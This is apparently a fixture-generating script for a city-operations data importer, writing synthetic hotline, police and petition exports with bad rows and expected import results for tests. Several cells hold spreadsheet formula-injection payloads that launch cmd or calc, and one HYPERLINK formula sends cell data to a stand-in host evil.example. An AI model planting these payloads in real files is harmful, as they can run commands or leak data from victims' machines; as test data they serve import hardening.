/**
 * Writes data/fixtures/: one realistic export per source with every kind of bad row, a later
 * export with new states, a file with other headers plus its mapping file, and expected.json
 * (what importing each file must report). Same content on every run (seeded); run from the repo root:
 *   pnpm exec tsx packages/db/src/import/fixtures-script.ts
 */
import type { Source } from '@cityops/domain';
import iconv from 'iconv-lite';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { templateHeaders } from './fields.ts';
import { buildValidRows, readFixtureUnits, toHeaders, wallClockText, writeFixtureCsv, writeFixtureXlsx, type FixtureRow, type FixtureUnits } from './fixture-rows.ts';

const INJECTION = `=cmd|' /C calc'!A0`;
const OCT = Date.UTC(2026, 9, 1, 8, 0, 0);

interface BadRow {
  kind: string;
  row: FixtureRow | Buffer;
}

export interface FixtureExpectation {
  source: Source;
  crs?: 'gcj02' | 'bd09';
  mapping?: string;
  rowsRead: number;
  rejected: number;
  /** Row numbers that must be refused, by kind of problem. */
  rejectedRows: Record<string, number>;
  inserted?: number;
  updated?: number;
  unchanged?: number;
  stale?: number;
  unmapped?: Record<string, number>;
}

/** Interleaves bad rows among valid ones at fixed positions; returns rows and each bad row's number. */
function interleave(valid: FixtureRow[], bad: BadRow[]): { rows: (FixtureRow | Buffer)[]; rejectedRows: Record<string, number> } {
  const rows: (FixtureRow | Buffer)[] = [...valid];
  bad.forEach((entry, i) => rows.splice(Math.min(rows.length, 3 + i * 5), 0, entry.row));
  const rejectedRows: Record<string, number> = {};
  for (const entry of bad) rejectedRows[entry.kind] = rows.indexOf(entry.row) + 2; // header is row 1
  return { rows, rejectedRows };
}

const without = (row: FixtureRow, ...headers: string[]): FixtureRow => Object.fromEntries(Object.entries(row).filter(([header]) => !headers.includes(header)));

function hotlineFixtures(units: FixtureUnits, dir: string): Record<string, FixtureExpectation> {
  const headers = templateHeaders('hotline');
  const valid = buildValidRows('hotline', units, 100, 4, { startMs: OCT });
  // Hostile cells in rows that are otherwise valid: imported, stored neutralised.
  valid[10]!['诉求内容'] = INJECTION;
  valid[11]!['诉求内容'] = `+1+cmd|' /C calc'!A0`;
  valid[12]!['承办单位'] = `-2+3+cmd|' /C calc'!A0`;
  valid[13]!['来电人'] = '@SUM(1+1)';
  const base = valid[20]!;
  const gbkLine = iconv.encode(`GD_GBK_0001,2026-10-05 10:00:00,电话,投诉,噪音扰民,,楼上装修噪音扰民,锦江区,春熙路街道,,,,,,13800000000,,一般,已受理,,,,,,,\r\n`, 'gbk');
  const bad: BadRow[] = [
    { kind: 'missing-id', row: without(base, '工单编号') },
    { kind: 'missing-received-at', row: { ...without(base, '受理时间'), 工单编号: 'GD_BAD_0002' } },
    { kind: 'missing-category', row: { ...without(base, '诉求类型'), 工单编号: 'GD_BAD_0003' } },
    { kind: 'impossible-date-feb-30', row: { ...base, 工单编号: 'GD_BAD_0004', 受理时间: '2026-02-30 10:15:00' } },
    { kind: 'impossible-month-13', row: { ...base, 工单编号: 'GD_BAD_0005', 受理时间: '2026/13/05 08:00' } },
    { kind: 'closed-before-received', row: { ...base, 工单编号: 'GD_BAD_0006', 受理时间: '2026-10-09 10:00:00', 办结时间: '2026-10-08 09:00:00' } },
    { kind: 'future-date', row: { ...base, 工单编号: 'GD_BAD_0007', 受理时间: '2030-01-01 09:00:00' } },
    { kind: 'unknown-district', row: { ...without(base, '所属街道', '所属社区', '经度', '纬度'), 工单编号: 'GD_BAD_0008', 所属区县: '天府新区' } },
    { kind: 'unknown-district-with-point', row: { ...without(base, '所属街道', '所属社区'), 工单编号: 'GD_BAD_0009', 所属区县: '高新区', 经度: '104.06', 纬度: '30.55' } },
    { kind: 'unmapped-category-1', row: { ...base, 工单编号: 'GD_BAD_0010', 诉求类型: '疫情防控' } },
    { kind: 'unmapped-category-2', row: { ...base, 工单编号: 'GD_BAD_0011', 诉求类型: '疫情防控' } },
    { kind: 'unmapped-category-3', row: { ...base, 工单编号: 'GD_BAD_0012', 诉求类型: '营商环境' } },
    { kind: 'duplicate-id-same-row', row: { ...valid[5]! } },
    { kind: 'duplicate-id-other-content', row: { ...valid[6]!, 办理状态: '已回访关闭', 办结时间: wallClockText(OCT + 40 * 86_400_000), 满意度: '满意' } },
    { kind: 'formula-in-refused-row', row: { ...base, 工单编号: 'GD_BAD_0015', 来电人: `@SUM(1+1)*cmd|' /C calc'!A0`, 诉求内容: INJECTION, 受理时间: '2026-02-30' } },
    { kind: 'wrong-encoding', row: gbkLine },
    { kind: 'bad-phone', row: { ...base, 工单编号: 'GD_BAD_0017', 联系电话: '12345' } },
    { kind: 'point-outside-chengdu', row: { ...base, 工单编号: 'GD_BAD_0018', 经度: '116.397128', 纬度: '39.916527' } },
    { kind: 'unknown-status', row: { ...base, 工单编号: 'GD_BAD_0019', 办理状态: '已挂起' } },
  ];
  const { rows, rejectedRows } = interleave(valid, bad);
  writeFixtureCsv(path.join(dir, 'hotline-2026-10.csv'), headers, rows, 'utf8-bom');

  // The November export repeats 25 October cases: open ones now closed with a rating, closed
  // ones identical, two carrying an older state than stored (an out-of-order export), plus 5 new.
  const later: FixtureRow[] = [];
  let updated = 0;
  let unchanged = 0;
  for (const row of valid.slice(0, 25)) {
    if (row['办理状态'] === '已回访关闭') {
      later.push({ ...row });
      unchanged += 1;
    } else {
      const received = Date.parse(`${String(row['受理时间']).replace(' ', 'T')}Z`);
      later.push({ ...row, 办理状态: '已回访关闭', 派单时间: wallClockText(received + 1_800_000), 签收时间: wallClockText(received + 7_200_000), 办结时间: wallClockText(received + 4 * 86_400_000), 满意度: '满意' });
      updated += 1;
    }
  }
  const stale = valid.slice(25, 40).filter((row) => ['已办结', '已回访关闭'].includes(String(row['办理状态']))).slice(0, 2);
  for (const row of stale) later.push({ ...without(row, '派单时间', '签收时间', '办结时间', '满意度'), 办理状态: '已受理' });
  const fresh = buildValidRows('hotline', units, 5, 44, { startMs: Date.UTC(2026, 10, 2, 9), idPrefix: 'GD_NOV_' });
  later.push(...fresh);
  writeFixtureCsv(path.join(dir, 'hotline-2026-11-later.csv'), headers, later, 'utf8');

  return {
    'hotline-2026-10.csv': { source: 'hotline', rowsRead: rows.length, rejected: bad.length, rejectedRows, inserted: valid.length, unmapped: { 疫情防控: 2, 营商环境: 1 } },
    'hotline-2026-11-later.csv': { source: 'hotline', rowsRead: later.length, rejected: 0, rejectedRows: {}, inserted: fresh.length, updated, unchanged, stale: stale.length },
  };
}

async function policeFixtures(units: FixtureUnits, dir: string): Promise<Record<string, FixtureExpectation>> {
  const headers = templateHeaders('police');
  const valid = buildValidRows('police', units, 60, 7, { startMs: OCT, crs: 'gcj02', coordinateShare: 0.85, dateCells: true });
  // A real formula cell (not text): read as its source text, stored neutralised, never evaluated.
  valid[8]!['简要警情'] = { formula: `cmd|' /C calc'!A0` };
  const base = valid[30]!;
  const bad: BadRow[] = [
    { kind: 'missing-id', row: without(base, '接警编号') },
    { kind: 'unknown-district', row: { ...without(base, '所属街道', '所属社区', '发案地经度', '发案地纬度'), 接警编号: 'JJ_BAD_02', 管辖区县: '天府新区' } },
    { kind: 'impossible-date', row: { ...base, 接警编号: 'JJ_BAD_03', 接警时间: '2026-04-31 25:61' } },
    { kind: 'formula-in-refused-row', row: { ...without(base, '警情类别'), 接警编号: 'JJ_BAD_04', 简要警情: { formula: `HYPERLINK("http://evil.example/?"&A1,"点我")` } } },
    { kind: 'duplicate-id', row: { ...valid[3]! } },
    { kind: 'unmapped-category', row: { ...base, 接警编号: 'JJ_BAD_06', 警情类别: '涉疫警情' } },
    { kind: 'bad-police-matter', row: { ...base, 接警编号: 'JJ_BAD_07', 警情性质: '未知' } },
  ];
  const { rows, rejectedRows } = interleave(valid, bad);
  await writeFixtureXlsx(path.join(dir, 'police-2026-10.xlsx'), headers, rows as FixtureRow[]);
  return { 'police-2026-10.xlsx': { source: 'police', crs: 'gcj02', rowsRead: rows.length, rejected: bad.length, rejectedRows, inserted: valid.length, unmapped: { 涉疫警情: 1 } } };
}

function petitionFixtures(units: FixtureUnits, dir: string): Record<string, FixtureExpectation> {
  const headers = templateHeaders('petition');
  const valid = buildValidRows('petition', units, 40, 9, { startMs: OCT, coordinateShare: 0 });
  valid[4]!['信访事项'] = `+cmd|' /C calc'!A0`;
  const base = valid[15]!;
  const bad: BadRow[] = [
    { kind: 'unknown-street', row: { ...base, 信访件编号: 'XF_BAD_01', 所属街道: '不存在街道', 所属社区: '' } },
    { kind: 'missing-category', row: { ...without(base, '问题类别'), 信访件编号: 'XF_BAD_02' } },
    { kind: 'bad-group-size', row: { ...base, 信访件编号: 'XF_BAD_03', 来访人数: '-3' } },
    { kind: 'impossible-date', row: { ...base, 信访件编号: 'XF_BAD_04', 登记时间: '2026-04-31' } },
    { kind: 'unmapped-category', row: { ...base, 信访件编号: 'XF_BAD_05', 问题类别: '疫情防控' } },
    { kind: 'formula-in-refused-row', row: { ...base, 信访件编号: 'XF_BAD_06', 信访人: `-cmd|' /C calc'!A0`, 身份证号: '51010419801301' } },
    { kind: 'duplicate-id', row: { ...valid[2]! } },
  ];
  const { rows, rejectedRows } = interleave(valid, bad);
  writeFixtureCsv(path.join(dir, 'petition-2026-10-gbk.csv'), headers, rows, 'gbk');
  return { 'petition-2026-10-gbk.csv': { source: 'petition', rowsRead: rows.length, rejected: bad.length, rejectedRows, inserted: valid.length, unmapped: { 疫情防控: 1 } } };
}

/** An export with its own headers and category names, Baidu (BD-09) coordinates, and its mapping file. */
function customHeaderFixtures(units: FixtureUnits, dir: string): Record<string, FixtureExpectation> {
  const source = buildValidRows('hotline', units, 8, 12, { startMs: OCT, crs: 'bd09', coordinateShare: 1, idPrefix: 'EXT' });
  const topics = ['Noise', 'Potholes', 'Water outage', 'Noise', 'Potholes', 'Water outage', 'Noise', 'Aliens'];
  const headers = ['Ticket', 'Opened', 'Topic', 'Details', 'County', 'Lon (BD-09)', 'Lat (BD-09)', 'Caller phone', 'State'];
  const rows = source.map((row, i) => ({
    Ticket: row['工单编号']!, Opened: row['受理时间']!, Topic: topics[i]!, Details: row['诉求内容']!, County: row['所属区县']!,
    'Lon (BD-09)': row['经度']!, 'Lat (BD-09)': row['纬度']!, 'Caller phone': row['联系电话']!, State: row['办理状态']!,
  }));
  writeFixtureCsv(path.join(dir, 'hotline-custom-headers.csv'), headers, rows, 'utf8');
  const mapping = {
    columns: { Ticket: 'externalId', Opened: 'receivedAt', Topic: 'category', Details: 'summary', County: 'district', 'Lon (BD-09)': 'lng', 'Lat (BD-09)': 'lat', 'Caller phone': 'phone', State: 'status' },
    categories: { Noise: 'environment', Potholes: 'urban_management', 'Water outage': 'utilities' },
  };
  writeFileSync(path.join(dir, 'hotline-custom-mapping.json'), `${JSON.stringify(mapping, null, 2)}\n`);
  return {
    'hotline-custom-headers.csv': { source: 'hotline', crs: 'bd09', mapping: 'hotline-custom-mapping.json', rowsRead: 8, rejected: 1, rejectedRows: { 'unmapped-category': 9 }, inserted: 7, unmapped: { Aliens: 1 } },
  };
}

export async function writeFixtures(dir: string, unitsCsv: string): Promise<Record<string, FixtureExpectation>> {
  mkdirSync(dir, { recursive: true });
  // Core districts: 锦江, 青羊, 金牛, 武侯, 成华 — where most 12345 cases come from.
  const units = readFixtureUnits(unitsCsv, ['510104', '510105', '510106', '510107', '510108']);
  const expected = {
    ...hotlineFixtures(units, dir),
    ...(await policeFixtures(units, dir)),
    ...petitionFixtures(units, dir),
    ...customHeaderFixtures(units, dir),
  };
  writeFileSync(path.join(dir, 'expected.json'), `${JSON.stringify(expected, null, 2)}\n`);
  return expected;
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../../..');
  const expected = await writeFixtures(path.join(root, 'data', 'fixtures'), path.join(root, 'data', 'geo', 'units.csv'));
  for (const [file, facts] of Object.entries(expected)) process.stdout.write(`${file}: ${facts.rowsRead} rows, ${facts.rejected} bad\n`);
}
